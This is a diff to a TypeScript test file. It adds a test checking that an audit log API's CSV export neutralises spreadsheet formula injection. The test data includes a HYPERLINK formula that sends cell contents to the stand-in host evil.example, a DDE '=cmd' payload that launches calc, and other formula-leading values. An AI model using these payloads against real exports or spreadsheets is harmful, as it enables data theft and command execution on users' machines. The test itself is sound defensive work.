@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { auditLogs } from "../../../db/schema/index";
 import { writeAuditLog } from "../../../src/lib/server/audit";
+import { createUser } from "../../../src/lib/server/user";
 import { startBuiltServer, type RunningServer } from "../../support/server";
 import { createTestUser, type TestUser } from "../../support/users";
 
@@ -84,6 +85,41 @@ describe("audit log API", () => {
     expect(byUser.rows.map((r) => r.actionType)).toContain("acao_desconhecida");
     const quoted = await (await get(`/api/audit-logs/export.csv?action=acao_desconhecida`, who.admin!)).text();
     expect(quoted).toContain('"{""motivo"":""teste; com vírgula, e \\""aspas\\""""}"');
+  });
+
+  it("an attacker's user agent or full name never reaches a spreadsheet as a formula", async () => {
+    const created = await createUser(server.db, {
+      email: `planilha-${Date.now()}@b1.example.com`,
+      fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
+      password: "Senha@Teste1",
+      roleNames: ["lider"],
+      confirmed: true,
+    });
+    if (!created.ok) throw new Error(created.error);
+    const attacker = { id: created.userId };
+    writeAuditLog(server.db, {
+      userId: attacker.id,
+      actionType: "formula_probe",
+      result: "failure",
+      ipAddress: "+55",
+      userAgent: "=cmd|' /C calc'!A0",
+      details: { tab: "\tx" },
+    });
+    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "@SUM(1+1)" });
+    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "-2+3" });
+    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "\tcalc" });
+    writeAuditLog(server.db, { actionType: "formula_probe", result: "failure", userAgent: "\rcalc" });
+    const csv = await (await get("/api/audit-logs/export.csv?action=formula_probe", who.admin!)).text();
+    // Every cell that a spreadsheet would evaluate starts with a quote inside a quoted field.
+    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`);
+    expect(csv).toContain(`"'+55"`);
+    expect(csv).toContain(`"'@SUM(1+1)"`);
+    expect(csv).toContain(`"'-2+3"`);
+    expect(csv).toContain(`"'\tcalc"`);
+    expect(csv).toContain(`"'\rcalc"`);
+    const cells = csv.split(/,|\r\n/).map((cell) => cell.replace(/^"/, ""));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   it("rejects a malformed cursor or result with a Portuguese message", async () => {
